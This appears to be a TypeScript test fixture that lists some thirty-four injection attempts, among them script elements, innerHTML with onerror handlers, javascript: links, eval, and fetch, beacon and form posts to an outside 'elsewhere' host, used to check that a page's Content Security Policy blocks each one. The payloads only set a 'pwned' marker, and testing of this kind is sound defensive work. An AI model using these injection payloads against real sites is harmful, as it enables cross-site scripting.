interface Injection {
  name: string;
  /** The directives that it breaks; where there are several, browsers differ in which speaks. */
  breaks: string[];
  /** Runs in the page, and may throw there. Afterwards `window.pwned` must not exist. */
  attempt: (elsewhere: string) => unknown;
}

const TRUSTED_TYPES = 'require-trusted-types-for';

/** What somebody would do who found a way to put markup or code into the page. */
export const INJECTIONS: Injection[] = [
  {
    name: 'a script with a text',
    breaks: [TRUSTED_TYPES],
    attempt: () => {
      const script = document.createElement('script');
      script.textContent = 'window.pwned = 1';
      document.body.append(script);
    },
  },
  {
    name: 'a script with a text node',
    breaks: [TRUSTED_TYPES, 'script-src-elem'],
    attempt: () => {
      const script = document.createElement('script');
      script.append(document.createTextNode('window.pwned = 1'));
      document.body.append(script);
    },
  },
  {
    name: 'a script from elsewhere',
    breaks: [TRUSTED_TYPES],
    attempt: (elsewhere) => {
      const script = document.createElement('script');
      script.src = `${elsewhere}/script.js`;
      document.body.append(script);
    },
  },
  {
    name: 'innerHTML',
    breaks: [TRUSTED_TYPES],
    attempt: () =>
      Object.assign(document.body, { innerHTML: '<img src=x onerror="window.pwned = 1">' }),
  },
  {
    name: 'outerHTML',
    breaks: [TRUSTED_TYPES],
    attempt: () =>
      Object.assign(document.body, { outerHTML: '<svg onload="window.pwned = 1"></svg>' }),
  },
  {
    name: 'insertAdjacentHTML',
    breaks: [TRUSTED_TYPES],
    attempt: () => {
      const insert = 'insertAdjacentHTML';
      document.body[insert]('beforeend', '<img src=x onerror="window.pwned = 1">');
    },
  },
  {
    name: 'document.write',
    breaks: [TRUSTED_TYPES],
    attempt: () => {
      const write = Reflect.get(document, 'write') as (html: string) => void;
      write.call(document, '<script>window.pwned = 1</script>');
    },
  },
  {
    name: 'DOMParser',
    breaks: [TRUSTED_TYPES],
    attempt: () => new DOMParser().parseFromString('<b>x</b>', 'text/html').title,
  },
  {
    name: 'createContextualFragment',
    breaks: [TRUSTED_TYPES],
    attempt: () => {
      const html = '<script>window.pwned = 1</script>';
      document.body.append(document.createRange().createContextualFragment(html));
    },
  },
  {
    name: 'srcdoc',
    breaks: [TRUSTED_TYPES],
    attempt: () => {
      const frame = document.createElement('iframe');
      frame.srcdoc = '<script>parent.pwned = 1</script>';
      document.body.append(frame);
    },
  },
  {
    name: 'a Trusted Types policy of its own',
    breaks: ['trusted-types'],
    attempt: () => {
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy(name: string, rules: object): unknown };
      };
      trustedTypes.createPolicy('default', { createHTML: (html: string) => html });
    },
  },
  {
    name: 'an event handler in an attribute',
    breaks: [TRUSTED_TYPES, 'script-src-attr'],
    attempt: () => {
      const button = document.createElement('button');
      document.body.append(button);
      button.setAttribute('onclick', 'window.pwned = 1');
      button.click();
    },
  },
  {
    name: 'a javascript: link',
    breaks: [TRUSTED_TYPES, 'script-src-elem'],
    attempt: () => {
      const link = document.createElement('a');
      link.href = 'javascript:window.pwned=1';
      document.body.append(link);
      link.click();
    },
  },
  {
    // In a timer, because what the test's own tool runs is exempt.
    name: 'eval',
    breaks: [TRUSTED_TYPES, 'script-src'],
    attempt: () => void setTimeout(() => (0, eval)('window.pwned = 1')),
  },
  {
    name: 'new Function',
    breaks: [TRUSTED_TYPES, 'script-src'],
    attempt: () => void setTimeout(() => (new Function('window.pwned = 1') as () => void)()),
  },
  {
    name: 'a timer of a text',
    breaks: [TRUSTED_TYPES, 'script-src'],
    attempt: () =>
      void setTimeout(() => (setTimeout as (code: string) => number)('window.pwned = 1')),
  },
  {
    name: 'a worker',
    breaks: [TRUSTED_TYPES, 'worker-src'],
    attempt: () => new Worker('data:text/javascript,0').terminate(),
  },
  {
    name: 'a style attribute',
    breaks: ['style-src-attr'],
    attempt: () => document.body.setAttribute('style', 'outline: 1px solid red'),
  },
  {
    name: 'a style element without the nonce',
    breaks: ['style-src-elem'],
    attempt: () => {
      const style = document.createElement('style');
      style.textContent = 'body { outline: 1px solid red }';
      document.head.append(style);
    },
  },
  {
    name: 'a style sheet from elsewhere',
    breaks: ['style-src-elem'],
    attempt: (elsewhere) => {
      const link = document.createElement('link');
      link.rel = 'stylesheet';
      link.href = `${elsewhere}/style.css`;
      document.head.append(link);
    },
  },
  {
    name: 'a base',
    breaks: ['base-uri'],
    attempt: (elsewhere) => {
      const base = document.createElement('base');
      base.href = `${elsewhere}/`;
      document.head.prepend(base);
      const resolved = document.baseURI;
      base.remove();
      if (resolved.startsWith(elsewhere)) Object.assign(window, { pwned: 1 });
    },
  },
  {
    name: 'a frame from elsewhere',
    breaks: ['frame-src'],
    attempt: (elsewhere) => {
      const frame = document.createElement('iframe');
      frame.src = `${elsewhere}/frame`;
      document.body.append(frame);
    },
  },
  {
    name: 'a frame of the app itself',
    breaks: ['frame-src'],
    attempt: () => {
      const frame = document.createElement('iframe');
      frame.src = '/ingresar';
      document.body.append(frame);
    },
  },
  {
    name: 'an object',
    breaks: [TRUSTED_TYPES, 'object-src'],
    attempt: (elsewhere) => {
      const object = document.createElement('object');
      object.data = `${elsewhere}/object`;
      document.body.append(object);
    },
  },
  {
    name: 'an embed',
    breaks: [TRUSTED_TYPES, 'object-src'],
    attempt: (elsewhere) => {
      const embed = document.createElement('embed');
      embed.src = `${elsewhere}/embed`;
      document.body.append(embed);
    },
  },
  {
    name: 'a form that leads elsewhere',
    breaks: ['form-action'],
    attempt: (elsewhere) => {
      const form = document.createElement('form');
      form.action = `${elsewhere}/form`;
      form.method = 'post';
      document.body.append(form);
      form.submit();
    },
  },
  {
    name: 'fetch',
    breaks: ['connect-src'],
    attempt: (elsewhere) => fetch(`${elsewhere}/fetch`, { mode: 'no-cors' }).then(String),
  },
  {
    name: 'XMLHttpRequest',
    breaks: ['connect-src'],
    attempt: (elsewhere) => {
      const request = new XMLHttpRequest();
      request.open('GET', `${elsewhere}/xhr`);
      request.send();
    },
  },
  {
    name: 'a beacon',
    breaks: ['connect-src'],
    attempt: (elsewhere) => navigator.sendBeacon(`${elsewhere}/beacon`, 'x'),
  },
  {
    name: 'a WebSocket',
    breaks: ['connect-src'],
    attempt: (elsewhere) => new WebSocket(elsewhere.replace('http', 'ws')).close(),
  },
  {
    name: 'an EventSource',
    breaks: ['connect-src'],
    attempt: (elsewhere) => new EventSource(`${elsewhere}/events`).url,
  },
  {
    name: 'an image from elsewhere',
    breaks: ['img-src'],
    attempt: (elsewhere) => {
      new Image().src = `${elsewhere}/image`;
    },
  },
  {
    name: 'a video from elsewhere',
    breaks: ['media-src'],
    attempt: (elsewhere) => {
      document.createElement('video').src = `${elsewhere}/video`;
    },
  },
  {
    name: 'a font from elsewhere',
    breaks: ['font-src'],
    attempt: (elsewhere) => new FontFace('x', `url(${elsewhere}/font)`).load().then(String),
  },
];
